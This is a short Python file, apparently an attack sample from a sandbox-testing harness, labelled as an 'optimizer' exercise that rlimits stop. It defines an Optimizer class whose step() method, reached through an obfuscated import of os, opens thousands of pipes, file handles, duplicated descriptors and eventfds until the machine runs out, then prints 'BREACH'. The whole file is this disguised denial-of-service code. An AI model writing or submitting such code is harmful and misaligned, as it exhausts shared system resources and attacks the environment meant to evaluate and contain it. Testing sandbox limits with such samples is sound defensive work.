"""Attack: opens files, pipes and epolls until there is no descriptor left, for itself or for the machine.

Exercise: optimizer
Earns: 0
Stopped by: rlimits (open files)
Levels: full, container
"""

import random

os = getattr(random, bytes((95, 111, 115)).decode())

kept = []


def open_all():
    for make in (os.pipe, lambda: os.open("/dev/null", os.O_RDONLY), lambda: os.dup(1), lambda: os.eventfd(0)):
        try:
            for _ in range(1000):
                kept.append(make())
            print("BREACH a thousand descriptors")
        except OSError:
            pass


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        open_all()

    def zero_grad(self):
        pass
